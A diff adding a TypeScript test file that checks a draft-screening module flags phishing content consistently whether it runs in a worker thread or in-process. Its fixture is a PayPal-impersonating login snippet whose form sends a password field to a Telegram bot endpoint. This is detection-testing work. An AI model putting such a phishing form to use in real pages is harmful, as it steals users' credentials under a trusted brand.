@@ -1,0 +1,29 @@
+import { expect, it } from "@effect/vitest"
+import { limits } from "@surename/core/limits"
+import { Screening } from "@surename/core/operations/drafts/ports/screening"
+import * as Effect from "effect/Effect"
+import { screeningInThread, screeningRules } from "./index.ts"
+
+const kit =
+  '<title>PayPal</title><h1>Log in to PayPal</h1><form action="https://api.telegram.org/bot1/sendMessage"><input type="password">'
+const draftOf = (chars: number) => {
+  const bytes = Buffer.from(kit + "<p>more words </p>".repeat(chars / 18))
+  return [{ path: "index.html", bytes, contentType: "text/html" }]
+}
+const sizes = [100, limits.screenedAtOnceBytes + 1_000]
+const screenAll = Screening.use(({ screen }) => Effect.forEach(sizes, (chars) => screen(draftOf(chars))))
+
+it.live("screens long drafts in a thread with the result that it has here", () =>
+  Effect.gen(function* () {
+    const here = yield* Effect.provide(screenAll, screeningRules)
+    expect(here.map(({ flagged }) => flagged)).toEqual([true, true])
+    expect(yield* Effect.provide(screenAll, screeningInThread())).toEqual(here)
+  }),
+)
+
+it.live("screens here when the thread breaks", () =>
+  Effect.gen(function* () {
+    const nowhere = screeningInThread(new URL("./no-such-file.ts", import.meta.url))
+    expect(yield* Effect.provide(screenAll, nowhere)).toEqual(yield* Effect.provide(screenAll, screeningRules))
+  }),
+)
